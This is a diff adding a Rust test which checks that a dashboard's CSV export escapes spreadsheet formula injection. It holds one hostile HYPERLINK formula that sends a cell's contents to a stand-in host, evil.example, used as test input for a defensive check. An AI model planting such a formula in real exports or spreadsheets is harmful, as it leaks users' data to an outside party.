@@ -2,6 +2,7 @@
 //! the outbox and its retry button.
 
 use super::*;
+use hanbao::store::{Outbox, Records};
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn the_matrix_shows_states_filters_and_escapes_hostile_names() {
@@ -138,6 +139,54 @@ async fn csv_export_is_hanbao_status_csv() {
     assert_eq!(r.body.lines().count(), 1, "header only: {}", r.body);
     let r = s.get("/dashboard/export.csv?group=x", Some(&cookie)).await;
     assert_eq!(r.status, 400);
+    s.shutdown().await;
+}
+
+/// A document number that is a spreadsheet formula (stored through a unit
+/// token, a confirmation link or an import) leaves the dashboard's export
+/// as text; the hostile configuration names too.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn csv_export_never_hands_a_spreadsheet_a_formula() {
+    let s = start().await;
+    let evil = r#"=HYPERLINK("http://evil.example/?leak="&A2,"Xem")"#;
+    s.store
+        .record_submission(
+            NewSubmission {
+                key: Key::new("bc-quy", "2026-Q1", "so-yte"),
+                received_on: date(2026, 3, 19),
+                received_at: None,
+                reference: Some(evil.into()),
+                note: None,
+                actor: "token:2:Văn thư Sở Y tế".into(),
+                source: Source::Api,
+                correction: false,
+            },
+            Timestamp::now(),
+        )
+        .await
+        .unwrap();
+    let cookie = s.login(&s.admin).await;
+    let r = s
+        .get(
+            "/dashboard/export.csv?obligation=bc-quy&period=2026-Q1",
+            Some(&cookie),
+        )
+        .await;
+    assert_eq!(r.status, 200);
+    let text = std::str::from_utf8(&r.bytes[3..]).unwrap();
+    let rows: Vec<Vec<String>> = ::csv::ReaderBuilder::new()
+        .from_reader(text.as_bytes())
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+        .collect();
+    let yte = rows.iter().find(|r| r[3] == "so-yte").unwrap();
+    assert_eq!(yte[11], format!("'{evil}"));
+    for cell in rows.iter().flatten() {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "{cell:?}"
+        );
+    }
     s.shutdown().await;
 }
 
